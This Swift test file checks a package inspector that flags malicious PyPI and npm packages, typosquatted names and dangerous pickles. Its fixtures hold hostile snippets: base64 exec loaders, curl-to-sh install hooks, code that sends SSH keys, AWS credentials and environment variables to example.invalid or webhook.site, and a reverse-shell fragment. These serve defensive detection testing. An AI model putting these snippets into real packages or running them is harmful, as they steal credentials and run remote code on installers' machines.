import Crypto
import Testing

@testable import Provenance

/// Every payload here is harmless: addresses are of `example.invalid`, and nothing is run.
@Suite("Looking inside a package")
struct InspectionTests {
    static var inspector: PackageInspector {
        PackageInspector(
            popular: [.pypi: ["requests", "urllib3", "python-dateutil"], .npm: ["lodash"]],
            sha256: { Array(SHA256.hash(data: $0)) },
            sha512: { Array(SHA512.hash(data: $0)) }
        )
    }

    private func inspect(
        _ files: [(String, String)],
        name: String = "x-1.tar.gz",
        against before: PackageInspection? = nil
    ) -> PackageInspection {
        let entries = files.map { (name: "x-1/" + $0.0, type: UInt8(0x30), content: $0.1) }
        return Self.inspector.inspect(ArchiveTests.tar(entries), name: name, against: before)
    }

    static let code = "cHJpbnQoMSkK" + String(repeating: "QUFB", count: 60)

    static let attacks: [(String, String, String)] = [
        ("EXEC-1", "m.py", "import base64 as b\nexec(b.b64decode('\(code)'))\n"),
        ("EXEC-1", "m.py", "from zlib import decompress as d\nx = d(b'..')\neval(x)\n"),
        ("EXEC-1", "setup.py", "exec(bytes.fromhex('00ff').decode())\n"),
        ("NET-1", "m.py", "import requests\nexec(requests.get('https://example.invalid').text)\n"),
        ("NET-1", "setup.py", "import os\nos.system('curl https://example.invalid/x | sh')\n"),
        (
            "CRED-1", "m.py",
            """
            import os, requests
            def go():
                places = ('~/.ssh/id_rsa', '~/.aws/credentials')
                got = [open(os.path.expanduser(p)).read() for p in places]
                requests.post('https://example.invalid', json=got)
            go()
            """
        ),
        (
            "CRED-2", "m.py",
            """
            import json, os
            from urllib import request
            request.urlopen('https://example.invalid', data=json.dumps(dict(os.environ)).encode())
            """
        ),
        (
            "SHELL-1", "m.py",
            "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
        ),
        ("HIDE-1", "m.py", "x = 1;" + String(repeating: " ", count: 200) + "import os\n"),
        (
            "EXEC-2", "setup.py",
            "import os\nf = open('a', 'w')\nf.write('exec(urlopen(1).read())')\nos.system('x')\n"
        ),
    ]

    @Test("finds what acts when nobody asked it to", arguments: attacks)
    func finds(rule: String, path: String, text: String) {
        let found = inspect([(path, text), ("PKG-INFO", "Name: x\nVersion: 1\n\n")])
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 60 }, "\(found.marks)")
        #expect(found.answer == .refuse)
    }

    static let tools: [(String, String)] = [
        (
            "sdk.py",
            """
            import os, requests
            class Session:
                def credentials(self):
                    for p in ('~/.aws/credentials', '~/.ssh/id_rsa', '~/.docker/config.json'):
                        yield open(os.path.expanduser(p)).read()
                def send(self, body):
                    return requests.post(self.url, json=body)
            """
        ),
        (
            "docs.py",
            "\"\"\"exec(base64.b64decode('x')) and curl https://example.invalid | sh.\"\"\"\n"
                + "# exec(base64.b64decode('x'))\nimport base64\n\n"
                + "def decode(x):\n    return base64.b64decode(x)\n"
        ),
        (
            "setup.py",
            """
            import os, subprocess, sys
            from setuptools import setup
            version = subprocess.check_output(['git', 'describe']).decode()
            setup(name='x', version=version)
            if __name__ == '__main__':
                subprocess.run([sys.executable, 'setup.py', 'test'])
            """
        ),
        (
            "run.py",
            "import os, subprocess as s\ndef run(x):\n    return s.run(x, env=dict(os.environ))\n"
        ),
        ("compat.py", "exec('''def reraise(tp): raise tp\n''')\nx = eval('1 + 1')\n"),
    ]

    @Test("leaves tools alone that do the same when they are asked", arguments: tools)
    func leaves(path: String, text: String) {
        let found = inspect([(path, text), ("PKG-INFO", "Name: x\nVersion: 1\n\n")])
        #expect(found.answer == .pass, "\(found.marks)")
    }

    @Test(
        "reads npm's hooks and scripts",
        arguments: [
            (
                "node s.js",
                "const h = require('https'); h.request('https://example.invalid')"
                    + ".end(JSON.stringify(process.env))", "CRED-2"
            ),
            (
                "node ./s", "eval(Buffer.from('x','base64').toString()); eval(atob('eA=='))",
                "EXEC-1"
            ),
            ("curl https://example.invalid | sh", "", "HOOK-1"),
            (
                "node s.js",
                "const { execSync: r } = require('node:child_process');"
                    + "r('curl https://example.invalid/a | bash')", "NET-1"
            ),
        ]
    )
    func hooks(command: String, script: String, rule: String) {
        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"postinstall":"\#(command)"}}"#
        let found = inspect([("package.json", manifest), ("s.js", script)], name: "x-1.0.0.tgz")
        #expect(found.marks.contains { $0.rule == rule }, "\(found.marks)")
        #expect(found.answer == .refuse)
    }

    @Test("a function that nobody calls early is no cause for alarm")
    func arrows() {
        let script = """
            const fetch = require('node-fetch');
            module.exports.run = async (url) => { eval(await (await fetch(url)).text()); };
            """
        let found = inspect(
            [("package.json", #"{"name":"x"}"#), ("s.js", script)],
            name: "x-1.tgz"
        )
        #expect(found.answer != .refuse, "\(found.marks)")
    }

    @Test("what is new and acts is told against the release before")
    func difference() {
        let info = ("PKG-INFO", "Name: x\nVersion: 1\n\n")
        let before = inspect([("m.py", "x = 1\n"), info])
        let after = inspect(
            [("m.py", "import requests\nrequests.post('https://webhook.site/x')\n"), info],
            against: before
        )
        #expect(after.marks.contains { $0.rule == "DIFF-1" })
        #expect(after.score > inspect([("m.py", "x = 1\n"), info], against: before).score)
    }

    @Test(
        "names that are nearly popular ones are told, popular ones are not",
        arguments: [
            ("requets", "requests"), ("urlib3", "urllib3"), ("python_dateutil", nil),
            ("requests", nil), ("pythondateutil", "python-dateutil"), ("flask", nil),
            ("python-reqeusts", "requests"), ("py-requests", "requests"), ("request", "requests"),
        ] as [(String, String?)]
    )
    func names(name: String, other: String?) {
        let names = ["requests", "urllib3", "python-dateutil"]
        let normalised = Ecosystem.pypi.normalised(name)
        #expect(LookAlike(names).match(normalised)?.name == other)
    }

    @Test(
        "a name that a hand mistypes is doubted by itself, one that is a letter longer is not",
        arguments: [
            ("reqeusts", "requests", true), ("serde_jsn", "serde_json", true),
            ("expresss-session", "express-session", true), ("grequests", "requests", false),
            ("psycopg", "psycopg2", false), ("markdown2", "markdown", false),
            ("py-requests", "requests", false), ("python-reqeusts", "requests", true),
            ("http-proxy-agent", "https-proxy-agent", false), ("lodash.gt", "lodash.get", false),
            ("lodash.gte", "lodash.get", false), ("lodahs.get", "lodash.get", true),
        ]
    )
    func slips(name: String, other: String, isSlip: Bool) {
        #expect(LookAlike([other]).match(name) == .init(name: other, isSlip: isSlip))
    }

    @Test("names worth imitating are known of each ecosystem, and are nobody's imitation")
    func popular() {
        for ecosystem in [Ecosystem.pypi, .npm, .crates, .rubygems] {
            let names = PopularNames.known[ecosystem] ?? []
            #expect(names.count > 100)
            let known = LookAlike(names)
            #expect(names.allSatisfy { known.match($0) == nil })
        }
    }

    @Test("a pickle that imports what runs things is refused")
    func pickle() {
        let bytes = Array("cos\nsystem\n(S'id'\ntR.".utf8)
        #expect(PickleImports.names(bytes) == ["os system"])
        let fine = Array("ccollections\nOrderedDict\n)R.".utf8)
        #expect(PickleImports.names(fine) == ["collections OrderedDict"])
    }

    @Test(
        "a .pth that runs something is refused, one with paths is not",
        arguments: [
            ("import os; exec(bytes.fromhex('00'))", true), ("./lib\n# import os", false),
        ]
    )
    func startup(text: String, isRefused: Bool) {
        let found = inspect([("a.pth", text), ("PKG-INFO", "Name: x\nVersion: 1\n\n")])
        #expect((found.answer == .refuse) == isRefused)
    }

    @Test("an archive that cannot be opened is not let in")
    func broken() {
        let found = Self.inspector.inspect([0x1F, 0x8B, 0x08, 0, 1], name: "x-1.tar.gz")
        #expect(found.answer == .refuse)
        #expect(!found.unread.isEmpty)
    }

    @Test("scripts of random words never trap", arguments: 0..<60)
    func hostile(seed: Int) {
        let words = [
            "exec(", "'", "\"\"\"", "def f(", "class", "{", "}", "=>", "/*", "`", "\\", "\n",
            "    ", "import os as", "require(", ")", "\u{E9}", "0x", "/", "#", "from x import (",
        ]
        var state = UInt64(seed) &* 0x9E37_79B9_7F4A_7C15 | 1
        var text = ""
        for _ in 0..<(seed * 5) {
            state = state &* 6_364_136_223_846_793_005 &+ 1
            text += words[Int(state >> 33) % words.count]
        }
        for language in [Script.Language.python, .javascript] {
            let script = Script(Array(text.utf8), language, trigger: .import)
            #expect(ScriptRules(script, file: "x").marks.count < 100)
        }
    }
}
